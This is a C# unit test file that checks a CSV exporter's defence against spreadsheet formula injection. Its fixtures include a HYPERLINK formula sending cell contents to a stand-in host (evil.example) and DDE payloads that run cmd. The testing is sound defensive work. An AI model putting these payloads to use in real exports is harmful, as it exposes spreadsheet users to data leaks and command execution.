using ParkGis.IO.Output;

namespace ParkGis.IO.Tests.Output;

public sealed class SpreadsheetTextTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")", "a hyperlink formula that leaks a neighbouring cell")]
    [InlineData("+cmd|' /C calc'!A0", "DDE through a leading plus")]
    [InlineData("-2+3+cmd|' /C calc'!A0", "DDE after arithmetic that starts like a negative number")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0", "the at sign Excel reads as a function")]
    [InlineData("\t=1+1", "a leading tab")]
    [InlineData("\r=1+1", "a leading carriage return")]
    [InlineData("   =1+1", "a formula after leading spaces")]
    [InlineData("\u3000=1+1", "a formula after an ideographic space")]
    [InlineData("-", "a lone minus")]
    public void Csv_formula_injection_cells_are_prefixed_with_an_apostrophe(string cell, string reason)
    {
        Assert.True(SpreadsheetText.StartsLikeFormula(cell), reason);
        Assert.Equal("'" + cell, SpreadsheetText.Neutralise(cell));
    }

    [Theory]
    [InlineData("-12.5", "a negative number stays a number")]
    [InlineData("+3", "a signed number")]
    [InlineData("1e-5", "an exponent")]
    [InlineData("-0.000001", "a tiny negative rate")]
    [InlineData("39.70%", "a percentage starts with a digit")]
    [InlineData("鄂托克经济开发区", "Chinese text")]
    [InlineData("P01-003", "an id with a minus inside")]
    [InlineData("", "an empty cell")]
    [InlineData("a=b", "an equals sign that does not start the cell")]
    public void Ordinary_cells_and_numbers_are_left_as_they_are(string cell, string reason)
    {
        Assert.False(SpreadsheetText.StartsLikeFormula(cell), reason);
        Assert.Equal(cell, SpreadsheetText.Neutralise(cell));
    }

    [Fact]
    public void A_csv_cell_is_neutralised_before_it_is_quoted()
    {
        Assert.Equal("\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\"", ExcelCsvWriter.Cell("=HYPERLINK(\"http://x\",\"y\")"));
        Assert.Equal("'@SUM(1+1)", ExcelCsvWriter.Cell("@SUM(1+1)"));
        Assert.Equal("-3.5,,'+cmd", ExcelCsvWriter.Row(["-3.5", null, "+cmd"]));
    }
}
